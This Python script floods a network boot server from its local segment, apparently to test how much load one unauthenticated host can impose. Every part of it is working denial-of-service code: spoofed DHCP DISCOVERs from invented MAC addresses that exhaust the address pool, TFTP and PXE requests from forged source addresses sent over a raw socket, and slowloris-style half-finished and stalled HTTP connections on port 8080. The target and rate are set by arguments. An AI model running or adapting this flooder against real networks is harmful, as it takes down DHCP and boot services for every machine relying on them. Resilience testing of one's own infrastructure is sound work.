"""Floods a boot host from its segment: what one host can send without being anybody.

    flood.py SECONDS PACKETS_PER_SECOND BOOT_HOST SERVER_MAC

Of ten packets eight are DISCOVERs of invented machines, one is a TFTP request from an invented
address, and one a PXE request to port 4011. Beside them, connections to port 8080 are opened that
send half a request, or do not read what they asked for; those that are closed are opened again.
Prints one line of JSON: how many packets were sent, and how many connections were opened.
"""
import json
import os
import socket
import struct
import sys
import time

seconds, rate = float(sys.argv[1]), int(sys.argv[2])
host, server_mac = sys.argv[3], bytes.fromhex(sys.argv[4].replace(":", ""))
own_mac, own_address = bytes.fromhex("525400666666"), socket.inet_aton("10.77.0.66")
BROADCAST = b"\xff" * 6
HALF_REQUESTS, STALLED_READERS = 200, 100


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def frame(to_mac, source, source_port, destination, port, payload):
    udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + source + destination
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return to_mac + own_mac + b"\x08\x00" + head + udp


def dhcp(kind, mac, address=b"\0" * 4):
    fixed = struct.pack("!BBBB4sHH", 1, 1, 6, 0, os.urandom(4), 0, 0x8000) + address + b"\0" * 12
    options = bytes([53, 1, kind]) + b"\x3c\x20PXEClient:Arch:00000:UNDI:002001\x5d\x02\0\0\x5e\x03\1\2\1"
    options += b"\x61\x11\0" + os.urandom(16) + b"\xff"
    return fixed + mac.ljust(16, b"\0") + b"\0" * 192 + b"\x63\x82\x53\x63" + options


def invented():
    return b"\x02" + os.urandom(5)


def packet(number):
    kind = number % 10
    if kind == 8:
        request = b"\0\1ipxe.efi\0octet\0"
        source = socket.inet_aton("10.77.0.%d" % (200 + os.urandom(1)[0] % 50))
        return frame(server_mac, source, 1024 + number % 60000, socket.inet_aton(host), 69, request)
    if kind == 9:
        request = dhcp(3, invented(), own_address)
        return frame(server_mac, own_address, 4011, socket.inet_aton(host), 4011, request)
    nobody, everybody = b"\0" * 4, b"\xff" * 4
    return frame(BROADCAST, nobody, 68, everybody, 67, dhcp(1, invented()))


def connection(text):
    opened = socket.socket()
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    opened.setblocking(False)
    opened.connect_ex((host, 8080))
    return [opened, text]


HALF = b"GET /script.ipxe HTTP/1.1\r\nHost: x\r\n"
READ = b"GET /loaders/ipxe.efi HTTP/1.1\r\nHost: x\r\n\r\n"
connections = [connection(HALF if n < HALF_REQUESTS else READ) for n in range(HALF_REQUESTS + STALLED_READERS)]
opened = len(connections)


def tend(one):
    """Sends the request as soon as that is possible; opens a connection again that was closed."""
    global opened
    closed = False
    try:
        if one[1]:
            one[0].send(one[1])
            kept[id(one)], one[1] = one[1], b""
        elif kept[id(one)] == HALF:
            closed = one[0].recv(1) == b""
    except BlockingIOError:
        return
    except OSError:
        closed = True
    if closed:
        one[0].close()
        one[:] = connection(kept.get(id(one), one[1]))
        opened += 1


kept = {}
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
link.bind(("eth0", 0))
sent, began = 0, time.monotonic()
while (passed := time.monotonic() - began) < seconds:
    due = int(passed * rate)
    for number in range(sent, min(due, sent + 500)):
        link.send(packet(number))
    sent = min(due, sent + 500) if due > sent else sent
    tend(connections[int(passed * 100) % len(connections)])
    time.sleep(0.004)
print(json.dumps({"packets": sent, "connections": opened, "seconds": round(passed)}))
